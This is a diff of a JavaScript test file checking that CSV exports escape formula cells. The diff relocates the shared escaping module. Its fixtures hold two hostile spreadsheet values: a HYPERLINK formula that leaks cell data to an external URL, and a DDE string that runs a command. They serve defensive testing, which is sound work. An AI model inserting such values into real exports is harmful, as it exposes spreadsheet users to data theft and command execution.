@@ -1,11 +1,12 @@
 // The compare view's "CSV of this comparison" (assets/js/compare.js, written in the browser) and the
-// data stage's CSVs (scripts/lib/csv.mjs) escape formula cells by one rule, assets/js/csv-cell.js:
+// data stage's CSVs (scripts/lib/csv.mjs) escape formula cells by one rule, scripts/lib/csv-cell.mjs
+// (mounted for Hugo as assets/js/csv-cell.js):
 // a hostile title or software name opens in a spreadsheet as text, never as a formula.
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import fs from 'node:fs';
-import { csvField } from '../../assets/js/csv-cell.js';
-import { fromCsv, toCsv } from '../../scripts/lib/csv.mjs';
+import { csvField } from './csv-cell.mjs';
+import { fromCsv, toCsv } from './csv.mjs';
 
 const TITLE = '=HYPERLINK("https://example.com/?leak="&A2,"Click")';
 const SOFTWARE = "-2+3+cmd|' /C calc'!A0";
